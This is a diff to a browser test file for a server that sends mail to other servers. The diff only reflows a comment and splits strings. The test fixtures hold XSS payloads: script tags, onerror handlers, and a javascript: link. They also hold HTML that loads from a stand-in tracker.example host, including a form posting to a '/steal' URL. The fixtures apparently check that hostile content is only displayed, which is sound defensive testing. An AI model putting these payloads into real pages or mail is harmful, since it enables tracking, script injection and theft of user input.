@@ -1,6 +1,6 @@
 /**
- * An installation that sends to other servers, in a real browser: a domain is verified by DNS, what remote servers reply
- * and what mail contains is only shown, and a destination is suspended and resumed.
+ * An installation that sends to other servers, in a real browser: a domain is verified by DNS, what remote servers
+ * reply and what mail contains is only shown, and a destination is suspended and resumed.
  */
 import { assert } from 'chai'
 import { startDns, type TestDns } from '#test/support/dns.ts'
@@ -15,10 +15,12 @@ import { until } from '#test/support/until.ts'
 const SCRIPT = '<script>document.title="owned"</script><img src=x onerror=alert(1)>'
 const DOMAIN = 'hostile.example'
 const HOSTILE_HTML = [
-  '<h1>Look</h1><script>top.document.title="owned"</script><style>@import url("https://tracker.example/a.css");</style>',
+  '<h1>Look</h1><script>top.document.title="owned"</script>',
+  '<style>@import url("https://tracker.example/a.css");</style>',
   '<link rel="stylesheet" href="https://tracker.example/b.css"><img src="https://tracker.example/pixel.gif" alt="">',
   '<img src="x:" alt="" onerror="top.document.title=\'owned\'"><div style="background:url(https://tracker.example/c)">',
-  '<form action="https://tracker.example/steal"><input name="p"></form><iframe src="https://tracker.example/d"></iframe>',
+  '<form action="https://tracker.example/steal"><input name="p"></form>',
+  '<iframe src="https://tracker.example/d"></iframe>',
   '<meta http-equiv="refresh" content="0;url=https://tracker.example/e"><a href="javascript:alert(1)">press</a></div>',
 ].join('')
 
